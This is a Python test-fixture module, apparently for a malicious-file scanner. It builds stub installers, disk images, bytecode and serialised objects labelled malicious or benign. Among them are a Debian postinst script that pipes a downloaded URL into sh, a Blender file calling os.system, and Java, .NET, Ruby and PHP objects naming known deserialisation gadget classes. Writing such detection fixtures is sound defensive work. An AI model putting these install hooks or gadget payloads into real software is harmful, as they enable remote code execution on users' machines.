"""Installers, images, byte code and serialised objects of other languages. Nothing in them is complete enough to run."""

from __future__ import annotations

from stannary.testing.forges._small_zip import small_zip
from stannary.testing.forges.configs import URL, file

__all__: list[str] = []

_PACKAGES = "installers and byte code"
_OBJECTS = "objects of other languages"


def _ar(members: dict[str, bytes]) -> bytes:
    out = b"!<arch>\n"
    for name, data in members.items():
        out += f"{name:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(data):<10}`\n".encode() + data + b"\n" * (len(data) & 1)
    return out


for _name, _filename, _content in (
    ("deb", "x.deb", _ar({"debian-binary": b"2.0\n", "postinst": f"#!/bin/sh\ncurl {URL} | sh\n".encode()})),
    ("rpm", "x.rpm", b"\xed\xab\xee\xdb\x03\0" + bytes(90)),
    ("cabinet", "x.cab", b"MSCF\0\0\0\0" + bytes(60)),
    ("help", "help.chm", b"ITSF\x03\0\0\0" + bytes(100)),
    ("flash", "x.swf", b"FWS\x08" + bytes(60)),
    ("dalvik", "model.dex", b"dex\n035\0" + bytes(100)),
    ("android", "x.apk", small_zip({"classes.dex": b"dex\n035\0" + bytes(100)})),
    ("lua_bytes", "model.luac", b"\x1bLJ\x02\x02" + bytes(40)),
    ("llvm", "kernel.bc", b"BC\xc0\xde" + bytes(200)),
    ("iso", "models.iso", bytes(32768) + b"\x01CD001\x01" + bytes(4096)),
    ("vhd", "models.vhd", bytes(512) + b"conectix" + bytes(504)),
    ("dmg", "models.dmg", bytes(512) + b"koly\0\0\0\4" + bytes(504)),
    ("shortcut", "README.pdf.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)),
    ("note", "notes.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(900)),
    ("static_library", "libx.a", _ar({"x.o": b"\x7fELF\x02\x01\x01" + bytes(57)})),
    ("blend_script", "x.blend", b"BLENDER-v300TEXT" + bytes(20) + b"import os\nos.system('echo stannary')\nENDB"),
):
    file(f"program.{_name}", _filename, _content, _PACKAGES)
file("program.blend_plain", "x.blend", b"BLENDER-v300REND" + bytes(60) + b"ENDB", _PACKAGES, malicious=False)


def _java(*names: str) -> bytes:
    return b"\xac\xed\x00\x05" + b"".join(b"sr\0" + bytes((len(n),)) + n.encode() + bytes(8) + b"\x02\0\0xp" for n in names)


for _name, _filename, _content in (
    ("java_gadget", "weka.model", _java("java.util.HashMap", "org.apache.commons.collections.functors.InvokerTransformer")),
    ("java_templates", "model.ser", _java("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    (
        "net_identity",
        "model.dat",
        b"\0\x01\0\0\0\xff\xff\xff\xff\x01" + bytes(7) + b"\x05\x01\0\0\0\x29System.Security.Principal.WindowsIdentity",
    ),
    ("ruby_gem", "model.marshal", b"\x04\bo:\x15Gem::Requirement\x06"),
    ("php_archive", "x.phar", b'<?php __HALT_COMPILER(); ?>\r\nO:4:"Evil":0:{}GBMB'),
):
    file(f"serial.{_name}", _filename, _content, _OBJECTS)
file("serial.java_weka", "weka.model", _java("weka.classifiers.trees.J48", "weka.core.Instances"), _OBJECTS, malicious=False)
